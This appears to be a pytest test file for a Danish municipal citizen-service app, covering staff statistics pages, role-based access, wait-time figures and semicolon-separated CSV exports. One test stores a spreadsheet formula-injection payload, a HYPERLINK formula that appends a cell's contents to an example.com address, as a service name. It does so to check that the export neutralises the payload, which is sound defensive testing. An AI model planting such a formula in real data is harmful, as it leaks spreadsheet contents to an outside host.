"""The statistics page, the annual report and the tally page as staff use
them: each role sees only what it may, over its own places; the exports
hold the figures in the shape Danish spreadsheets read."""

import csv
import io
import re
from collections.abc import Callable
from datetime import datetime, timedelta

import pytest
from django.http import QueryDict
from django.test import Client

from skranke.accounts.models import Role, User
from skranke.contact_centre.models import Contact, Topic, TopicGroup
from skranke.core import clock
from skranke.core.models import Desk, Location, Service
from skranke.information_and_cash_desks.models import Tally
from skranke.queueing.models import Visit
from tests.booking.test_staff_booking import member
from tests.stats.visits import make_booking, make_visit

pytestmark = pytest.mark.django_db

StaffClient = Callable[[User], Client]
MONDAY_TEN = datetime(2026, 12, 7, 10, 0, tzinfo=clock.LOCAL_ZONE)


@pytest.fixture
def other_place(centre: Location) -> Location:
    return Location.objects.create(
        municipality=centre.municipality, name="Biblioteket", slug="bib", address="Torvet 3"
    )


def test_statistics_are_for_managers_and_administrators(
    centre: Location, staff_client: StaffClient
) -> None:
    for role, status in (
        (Role.FRONT_DESK, 403),
        (Role.CONTACT_AGENT, 403),
        (Role.MANAGER, 200),
        (Role.ADMINISTRATOR, 200),
    ):
        client = staff_client(member(role, centre))
        assert client.get("/personale/statistik/").status_code == status, role
        assert client.get("/personale/statistik/aarsrapport/2026/").status_code == status, role
        assert client.get("/personale/statistik/aarsrapport/2026.json").status_code == status


def test_a_manager_sees_the_figures_of_their_own_places_only(
    centre: Location, other_place: Location, passport: Service, staff_client: StaffClient
) -> None:
    passport.locations.add(other_place)
    for _ in range(3):
        make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    make_visit(location=other_place, service=passport, arrived=MONDAY_TEN)
    manager = staff_client(member(Role.MANAGER, centre))
    page = manager.get("/personale/statistik/", {"periode": "day", "dato": "2026-12-07"})
    assert page.context["overview"].visits.visits == 3
    asked_for_other = manager.get(
        "/personale/statistik/", {"periode": "day", "dato": "2026-12-07", "sted": other_place.pk}
    )
    assert asked_for_other.context["overview"].visits.visits == 3  # not theirs: all of theirs
    report = manager.get("/personale/statistik/aarsrapport/2026.json").json()
    assert report["visits"]["total"] == 3
    administrator = staff_client(member(Role.ADMINISTRATOR, centre))
    report = administrator.get("/personale/statistik/aarsrapport/2026.json").json()
    assert report["visits"]["total"] == 4


def test_the_page_shows_each_time_figure_with_what_it_rests_on(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    for minutes in (10, 12, 14, 16):
        make_visit(location=centre, service=passport, arrived=MONDAY_TEN, served=minutes)
    make_visit(
        location=centre, service=passport, arrived=MONDAY_TEN, served=500, not_ended_by_staff=True
    )
    manager = staff_client(member(Role.MANAGER, centre))
    page = manager.get("/personale/statistik/", {"periode": "week", "dato": "2026-12-07"})
    text = page.content.decode()
    assert page.status_code == 200
    assert "1 not ended by staff" in text
    assert "<desc" in text
    assert "<title>" in text
    service_time = page.context["overview"].visits.service_time
    assert (service_time.median, service_time.used, service_time.count) == (13.0, 4, 5)


def test_the_csv_has_semicolons_decimal_commas_and_a_total(
    centre: Location, passport: Service, card: Service, staff_client: StaffClient
) -> None:
    make_visit(location=centre, service=passport, arrived=MONDAY_TEN, served=12.5)
    make_visit(location=centre, service=card, arrived=MONDAY_TEN, served=7)
    manager = staff_client(member(Role.MANAGER, centre))
    response = manager.get(
        "/personale/statistik/",
        {"periode": "month", "dato": "2026-12-01", "gruppering": "service", "format": "csv"},
    )
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    by_name = {row[0]: row for row in rows[1:]}
    assert set(by_name) == {"Pas", "Sundhedskort", "Total"}
    header = rows[0]
    median = header.index("Service time: median, minutes")
    assert by_name["Pas"][median] == "12,5"
    assert by_name["Total"][header.index("Visits")] == "2"


def test_bad_choices_fall_back_instead_of_failing(
    centre: Location, staff_client: StaffClient
) -> None:
    manager = staff_client(member(Role.MANAGER, centre))
    page = manager.get(
        "/personale/statistik/",
        {"periode": "decade", "dato": "31-02-2026", "gruppering": "x", "sted": "x", "ydelse": "-1"},
    )
    assert page.status_code == 200
    assert page.context["kind"] == "month"
    assert manager.get("/personale/statistik/aarsrapport/1999/").status_code == 404


@pytest.mark.parametrize(
    "path",
    [
        "/personale/statistik/",
        "/personale/kontaktcenter/noegletal/",
        "/personale/beskeder/",
        "/personale/tider/aflys-dag/",
    ],
)
def test_an_impossible_date_is_said_not_replaced_silently(
    centre: Location, staff_client: StaffClient, path: str
) -> None:
    manager = staff_client(member(Role.MANAGER, centre))
    for value in ("9999-12-31", "31-02-2026"):
        page = manager.get(path, {"periode": "day", "dato": value, "fra": value, "dag": value})
        assert page.status_code == 200, path
        text = page.content.decode()
        assert f"“{value}”" in text, path
        assert "cannot be shown" in text or "kan ikke vises" in text, path
    plain = manager.get(path).content.decode()
    assert "cannot be shown" not in plain
    assert "kan ikke vises" not in plain


def test_the_desk_can_say_the_times_are_wrong(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    front_desk = member(Role.FRONT_DESK, centre)
    desk = centre.desks.first()
    assert desk is not None
    visit = make_visit(
        location=centre,
        service=passport,
        arrived=MONDAY_TEN,
        served=None,
        desk=desk,
        status=Visit.Status.IN_SERVICE,
    )
    client = staff_client(front_desk)
    client.post(
        f"/personale/skranke/{desk.pk}/handling/",
        {"action": "finish", "visit": visit.pk, "outcome": "served", "times_wrong": "yes"},
    )
    visit.refresh_from_db()
    assert visit.status == Visit.Status.ENDED
    assert visit.times_wrong


def test_one_click_counts_one_contact_and_a_slip_can_be_taken_back(
    centre: Location, staff_client: StaffClient
) -> None:
    clock.set_now(MONDAY_TEN)
    client = staff_client(member(Role.FRONT_DESK, centre))
    for kind in ("information_desk", "information_desk", "cash_desk"):
        client.post("/personale/optaelling/", {"sted": centre.pk, "kind": kind})
    assert Tally.objects.filter(kind="information_desk").count() == 2
    client.post(
        "/personale/optaelling/", {"sted": centre.pk, "kind": "cash_desk", "action": "undo"}
    )
    assert Tally.objects.filter(kind="cash_desk").count() == 0
    page = client.get("/personale/optaelling/")
    assert "Today: 2" in page.content.decode()
    clock.set_now(MONDAY_TEN + timedelta(days=1))
    client.post(
        "/personale/optaelling/", {"sted": centre.pk, "kind": "information_desk", "action": "undo"}
    )
    assert Tally.objects.count() == 2  # yesterday's are not taken back


def test_a_manager_marks_a_visits_times_wrong_afterwards_in_their_own_places_only(
    centre: Location, other_place: Location, passport: Service, staff_client: StaffClient
) -> None:
    own = make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    elsewhere = make_visit(location=other_place, service=passport, arrived=MONDAY_TEN)
    manager = staff_client(member(Role.MANAGER, centre))
    changelist = manager.get("/admin/queueing/visit/")
    assert changelist.status_code == 200
    assert list(changelist.context["cl"].queryset) == [own]
    manager.post(
        "/admin/queueing/visit/",
        {"action": "times_are_wrong", "_selected_action": [own.pk, elsewhere.pk]},
    )
    own.refresh_from_db()
    elsewhere.refresh_from_db()
    assert own.times_wrong
    assert not elsewhere.times_wrong
    front_desk = staff_client(member(Role.FRONT_DESK, centre))
    assert front_desk.get("/admin/queueing/visit/").status_code in (302, 403)


def test_the_counting_week_counts_every_channel_by_kle_area_and_kind(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    passport.kle_number = "05.04.00"
    passport.save()
    group = TopicGroup.objects.create(municipality=centre.municipality, name_da="Borgerservice")
    topic = Topic.objects.create(
        municipality=centre.municipality, name_da="Pas", group=group, kle_number="05.04.00"
    )
    for _ in range(2):
        make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    make_visit(location=centre, service=passport, arrived=MONDAY_TEN + timedelta(days=7))
    for kind in ("information", "information", "transaction"):
        Contact.objects.create(
            municipality=centre.municipality,
            channel=Contact.Channel.PHONE,
            topic=topic,
            outcome=Contact.Outcome.SETTLED,
            kind=kind,
            at=MONDAY_TEN + timedelta(days=2),
        )
    Tally.objects.create(location=centre, kind=Tally.Kind.CASH_DESK, at=MONDAY_TEN)
    manager = staff_client(member(Role.MANAGER, centre))
    response = manager.get("/personale/statistik/optaellingsuge/", {"dato": "2026-12-09"})
    assert response["Content-Disposition"].endswith('optaellingsuge-2026-uge-50.csv"')
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["Channel", "KLE number", "Area", "Kind", "Contacts"]
    assert sorted(rows[1:]) == sorted(
        [
            ["Personal visit", "05.04.00", "Pas", "", "2"],
            ["Phone", "05.04.00", "Pas", "Information (a question answered)", "2"],
            ["Phone", "05.04.00", "Pas", "Transaction (an errand done)", "1"],
            ["Cash desk", "", "Cash desk", "Transaction (an errand done)", "1"],
        ]
    )


def test_a_name_that_looks_like_a_formula_stays_text_in_the_counting_week(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    """The counting week goes to KL: a service named as a formula must not
    become a live link in whoever opens the file."""
    passport.name_da = '=HYPERLINK("http://example.com/?"&A2,"Klik her")'
    passport.kle_number = "05.04.00"
    passport.save()
    make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    manager = staff_client(member(Role.MANAGER, centre))
    response = manager.get("/personale/statistik/optaellingsuge/", {"dato": "2026-12-09"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    (row,) = rows[1:]
    assert row[2] == "'" + passport.name_da
    assert row[4] == "1"


def test_the_waits_of_booked_citizens_and_of_those_without_a_booking_are_shown_apart(
    centre: Location, passport: Service, postal_vote: Service, staff_client: StaffClient
) -> None:
    # Booked citizens called 2, 4, 6 and 8 minutes after their time: half
    # within the municipality's 5 minutes. Without a booking: 10, 15, 25
    # and 30 minutes, half within 20. Pooled, the halves would hide which
    # group waits.
    for minutes in (2, 4, 6, 8):
        booking = make_booking(location=centre, service=passport, start=MONDAY_TEN)
        make_visit(
            location=centre, service=passport, arrived=MONDAY_TEN, waited=minutes, booking=booking
        )
    for minutes in (10, 15, 25, 30):
        make_visit(location=centre, service=postal_vote, arrived=MONDAY_TEN, waited=minutes)
    manager = staff_client(member(Role.MANAGER, centre))
    page = manager.get("/personale/statistik/", {"periode": "week", "dato": "2026-12-07"})
    text = page.content.decode()
    assert "With a booking: 50 % called within 5 minutes of their time." in text
    assert "Without a booking: 50 % waited at most 20 minutes." in text
    rows = {(name, period): shares for name, period, _waits, shares in page.context["wait_rows"]}
    assert page.context["wait_minutes"] == (5, 10, 15, 20, 30, 45, 60)
    assert rows[("With a booking", "Week 50, 2026")] == [
        50.0,
        100.0,
        100.0,
        100.0,
        100.0,
        100.0,
        100.0,
    ]
    assert rows[("Without a booking", "Week 50, 2026")] == [0.0, 25.0, 50.0, 50.0, 100.0, 100, 100]
    chart = page.context["wait_chart"]
    assert [line.name for line in chart.lines] == ["With a booking", "Without a booking"]
    assert [mark.label for mark in chart.marks] == [
        "With a booking: 5 min.",
        "Without a booking: 20 min.",
    ]
    assert text.count("<polyline") == 2
    headlines = {headline.name: headline.value for headline in page.context["headlines"]}
    assert headlines["Wait, median, booked"] == 5.0
    assert headlines["Wait, median, without a booking"] == 20.0
    assert headlines["Without a booking, waited at most 20 minutes"] == 50.0


def test_the_hours_of_the_week_show_visits_per_open_day_and_the_queues_wait(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    # Two Mondays and one Tuesday in December 2026: Monday 10-11 has eight
    # visits over the month's four Mondays (2 a day), Tuesday 14-15 one
    # visit over five Tuesdays (0.2 a day). The wait is the queue's: the
    # two booked citizens' waits, long or short, are not in it.
    for minutes in (30, 60):
        booking = make_booking(location=centre, service=passport, start=MONDAY_TEN)
        make_visit(
            location=centre, service=passport, arrived=MONDAY_TEN, waited=minutes, booking=booking
        )
    for week in (0, 1):
        for _ in range(3):
            make_visit(
                location=centre,
                service=passport,
                arrived=MONDAY_TEN + timedelta(weeks=week, minutes=10),
                waited=4 + week * 4,
            )
    make_visit(location=centre, service=passport, arrived=MONDAY_TEN + timedelta(days=1, hours=4))
    manager = staff_client(member(Role.MANAGER, centre))
    page = manager.get("/personale/statistik/", {"periode": "month", "dato": "2026-12-07"})
    grid = page.context["overview"].week_hours
    assert grid.weekdays == [0, 1, 2, 3, 4]
    # Closed on Christmas Eve and New Year's Eve (Thursdays) and Christmas Day.
    assert grid.open_days == [4, 5, 5, 3, 3]
    assert [row.hour for row in grid.rows] == [10, 11, 12, 13, 14]
    monday_ten = grid.rows[0].cells[0]
    assert (monday_ten.visits, monday_ten.per_day, monday_ten.wait_median) == (8, 2.0, 6.0)
    assert grid.rows[4].cells[1].per_day == 0.2
    assert grid.rows[4].cells[1].wait_median is None  # one wait is no median
    text = page.content.decode()
    assert "<caption>Visits per hour, on average per open day</caption>" in text
    assert '<td class="align-text-right heat-5">2.0</td>' in text
    assert '<td class="align-text-right heat-1">0.2</td>' in text
    assert '<th scope="row">10–11</th>' in text


def test_the_figures_stand_beside_the_same_period_a_year_before_or_the_one_chosen(
    centre: Location, passport: Service, staff_client: StaffClient
) -> None:
    for _ in range(3):
        make_visit(location=centre, service=passport, arrived=MONDAY_TEN)
    a_year_before = MONDAY_TEN - timedelta(weeks=52)  # Monday 8 December 2025
    make_visit(location=centre, service=passport, arrived=a_year_before)
    make_visit(location=centre, service=passport, arrived=MONDAY_TEN - timedelta(weeks=1))
    manager = staff_client(member(Role.MANAGER, centre))

    def visits_beside(**choice: str) -> tuple[str | None, object, object]:
        page = manager.get(
            "/personale/statistik/", {"periode": "week", "dato": "2026-12-09", **choice}
        )
        earlier = page.context["earlier_period"]
        visits = page.context["headlines"][0]
        assert visits.name == "Visits"
        return (None if earlier is None else earlier.label, visits.value, visits.earlier)

    assert visits_beside() == ("Week 50, 2025", 3, 1)
    assert visits_beside(sammenlign="previous") == ("Week 49, 2026", 3, 1)
    assert visits_beside(sammenlign="none") == (None, 3, None)
    assert visits_beside(sammenlign="x") == ("Week 50, 2025", 3, 1)
    page = manager.get("/personale/statistik/", {"periode": "week", "dato": "2026-12-09"})
    assert re.search(r'<dd class="kpi-earlier">Week 50, 2025: 1\s*</dd>', page.content.decode())


def test_a_manager_drills_down_to_one_desk_or_service_of_their_own_places_only(
    centre: Location,
    other_place: Location,
    passport: Service,
    card: Service,
    staff_client: StaffClient,
) -> None:
    one, two = Desk.objects.filter(location=centre).order_by("name")
    elsewhere = Desk.objects.create(location=other_place, name="9")
    passport.locations.add(other_place)
    first = make_visit(location=centre, service=passport, arrived=MONDAY_TEN, desk=one)
    make_visit(location=centre, service=card, arrived=MONDAY_TEN, desk=one)
    make_visit(location=centre, service=card, arrived=MONDAY_TEN, desk=two)
    # Sent on from desk 1 to desk 2: desk 2 served this citizen too.
    make_visit(location=centre, service=card, arrived=MONDAY_TEN, desk=two, transferred_from=first)
    make_visit(location=other_place, service=passport, arrived=MONDAY_TEN, desk=elsewhere)
    make_booking(location=centre, service=passport, start=MONDAY_TEN, desk=one)
    make_booking(location=centre, service=passport, start=MONDAY_TEN, desk=two)
    manager = staff_client(member(Role.MANAGER, centre))
    week = {"periode": "week", "dato": "2026-12-07"}

    by_desk = manager.get("/personale/statistik/", {**week, "gruppering": "desk"})
    links = {name: query(link) for name, _figures, link in by_desk.context["groups"]}
    assert links[str(one)] == {**week, "gruppering": "service", "skranke": str(one.pk)}
    assert [str(desk) for desk in by_desk.context["desk_choices"]] == [str(one), str(two)]

    drilled = manager.get("/personale/statistik/", {**week, "skranke": str(two.pk)})
    overview = drilled.context["overview"]
    assert drilled.context["desk"] == two
    assert overview.visits.visits == 2
    assert overview.bookings.bookings == 1
    assert list(overview.desks.by_desk) == [two.pk]
    assert overview.desks.offered_minutes == 5 * 5 * 60  # its own shifts: five days of 10-15
    text = drilled.content.decode()
    assert "not kept per desk" in text
    assert 'id="tilfredshed"' not in text
    assert 'href="?periode=week&amp;dato=2026-12-07">All desks</a>' in text

    not_theirs = manager.get("/personale/statistik/", {**week, "skranke": str(elsewhere.pk)})
    assert not_theirs.context["desk"] is None
    assert not_theirs.context["overview"].visits.visits == 3  # all of their own, a transfer once

    by_service = manager.get("/personale/statistik/", week)
    links = {name: query(link) for name, _figures, link in by_service.context["groups"]}
    assert links["Pas"] == {**week, "gruppering": "desk", "ydelse": str(passport.pk)}
    service = manager.get(
        "/personale/statistik/", {**week, "ydelse": str(card.pk), "gruppering": "desk"}
    )
    assert service.context["overview"].visits.visits == 2


def query(link: str | None) -> dict[str, str]:
    """A drill-down link's choices."""
    assert link is not None
    assert link.startswith("?")
    return QueryDict(link[1:]).dict()
